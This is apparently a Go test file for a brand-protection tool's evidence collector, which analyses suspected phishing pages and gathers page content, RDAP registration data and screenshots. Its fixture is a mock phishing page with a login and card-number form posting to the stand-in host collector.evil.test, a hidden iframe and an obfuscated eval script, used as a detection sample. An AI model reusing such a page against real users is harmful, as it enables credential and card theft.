package evidence

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/bryanwahyu/brandsentry/internal/domain/brands"
	"github.com/bryanwahyu/brandsentry/internal/domain/threats"
	"github.com/bryanwahyu/brandsentry/internal/infra/ratelimit"
)

const phishPage = `<html><head><title>Acme Login</title>
<meta http-equiv="Refresh" content="30"></head>
<body>
<h1>Welcome to Acme</h1><p>Acme account verification. Acme support.</p>
<form action="https://collector.evil.test/post">
  <input name="user"><input type="password" name="pw">
  <input name="cardnumber" autocomplete="cc-number">
</form>
<iframe src="https://x.test" width="0" height="0"></iframe>
<script>eval(atob("YWxlcnQoMSk="))</script>
</body></html>`

var acme = &brands.Brand{ID: "b1", Name: "Acme", PrimaryDomain: "acme.com"}

type memShots struct {
	mu   sync.Mutex
	keys []string
}

func (m *memShots) PutScreenshot(_ context.Context, key string, data []byte, _ string) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.keys = append(m.keys, key)
	return nil
}

func fastSet() *ratelimit.Set {
	fast := ratelimit.Config{MaxConcurrent: 5, Interval: time.Millisecond, MaxPerInterval: 100}
	return ratelimit.NewSet(ratelimit.SetConfig{DNS: fast, Search: fast, Screenshot: fast, AI: fast, External: fast})
}

func TestAnalyzePage(t *testing.T) {
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(phishPage))
	require.NoError(t, err)

	pa := AnalyzePage(doc, "http://acme-login.test/", acme)
	assert.True(t, pa.HasLoginForm)
	assert.True(t, pa.HasPaymentForm)
	assert.Equal(t, 4, pa.BrandMentions)
	assert.ElementsMatch(t, []string{
		"external_form_action", "hidden_iframe", "obfuscated_script", "meta_refresh", "password_over_http",
	}, pa.SuspiciousElements)
}

func TestAnalyzePage_Benign(t *testing.T) {
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(`<html><body><p>Domain for sale</p></body></html>`))
	require.NoError(t, err)
	pa := AnalyzePage(doc, "https://acm.com/", acme)
	assert.False(t, pa.HasLoginForm)
	assert.False(t, pa.HasPaymentForm)
	assert.Empty(t, pa.SuspiciousElements)
}

func TestCollect_HTMLWhoisAndScreenshot(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/page", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, phishPage) })
	mux.HandleFunc("/rdap/", func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("unexpected rdap lookup %s", r.URL.Path)
	})
	mux.HandleFunc("/render", func(w http.ResponseWriter, r *http.Request) {
		assert.NotEmpty(t, r.URL.Query().Get("url"))
		w.Header().Set("Content-Type", "image/png")
		w.Write([]byte{0x89, 'P', 'N', 'G'})
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()

	shots := &memShots{}
	c := New(Config{RDAPBaseURL: srv.URL + "/rdap/", ScreenshotURL: srv.URL + "/render"}, fastSet(), srv.Client(), shots, nil)

	ev, err := c.Collect(context.Background(), srv.URL+"/page", acme)
	// IP hosts have no registrable domain, so whois is skipped
	require.NoError(t, err)
	require.Len(t, ev.HTML, 1)
	assert.Equal(t, "Acme Login", ev.HTML[0].Title)
	assert.True(t, ev.HTML[0].Page.HasLoginForm)
	assert.Contains(t, ev.HTML[0].Text, "Welcome to Acme")
	assert.Empty(t, ev.Whois)
	require.Len(t, ev.Screenshots, 1)
	assert.Equal(t, threats.RoleCandidate, ev.Screenshots[0].Role)
	assert.Equal(t, []string{ev.Screenshots[0].ObjectKey}, shots.keys)
}

func TestCollect_PartialFailureKeepsEvidence(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/page", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "<html><body>hi</body></html>") })
	mux.HandleFunc("/render", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "busy", http.StatusServiceUnavailable) })
	srv := httptest.NewServer(mux)
	defer srv.Close()

	c := New(Config{ScreenshotURL: srv.URL + "/render"}, fastSet(), srv.Client(), &memShots{}, nil)
	ev, err := c.Collect(context.Background(), srv.URL+"/page", acme)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "screenshot")
	assert.Len(t, ev.HTML, 1)
	assert.Empty(t, ev.Screenshots)
}

func TestLookupRDAP(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		assert.Equal(t, "/domain/acm.com", r.URL.Path)
		fmt.Fprint(w, `{"ldhName":"ACM.COM","status":["active"],
			"events":[{"eventAction":"registration","eventDate":"2025-01-02T03:04:05Z"},{"eventAction":"expiration","eventDate":"2026-01-02T03:04:05Z"}],
			"entities":[{"roles":["registrar"],"vcardArray":["vcard",[["version",{},"text","4.0"],["fn",{},"text","Example Registrar, Inc."]]]}],
			"nameservers":[{"ldhName":"NS1.EXAMPLE.NET"}]}`)
	}))
	defer srv.Close()

	c := New(Config{RDAPBaseURL: srv.URL + "/domain"}, fastSet(), srv.Client(), nil, nil)
	rec, err := c.lookupRDAP(context.Background(), "acm.com")
	require.NoError(t, err)
	assert.Equal(t, "Example Registrar, Inc.", rec.Registrar)
	require.NotNil(t, rec.CreatedAt)
	assert.Equal(t, 2025, rec.CreatedAt.Year())
	assert.Equal(t, []string{"ns1.example.net"}, rec.NameServer)
	assert.Equal(t, []string{"active"}, rec.Status)
}

func TestObjectKey_Stable(t *testing.T) {
	a := ObjectKey(acme, threats.RoleOfficial, "https://acme.com")
	assert.Equal(t, a, ObjectKey(acme, threats.RoleOfficial, "https://acme.com"))
	assert.True(t, strings.HasPrefix(a, "screenshots/b1/official/"))
	assert.NotEqual(t, a, ObjectKey(acme, threats.RoleCandidate, "https://acme.com"))
}

func TestCaptureOfficial_DisabledWithoutStore(t *testing.T) {
	c := New(Config{}, fastSet(), nil, nil, nil)
	shot, err := c.CaptureOfficial(context.Background(), acme)
	assert.NoError(t, err)
	assert.Nil(t, shot)
}
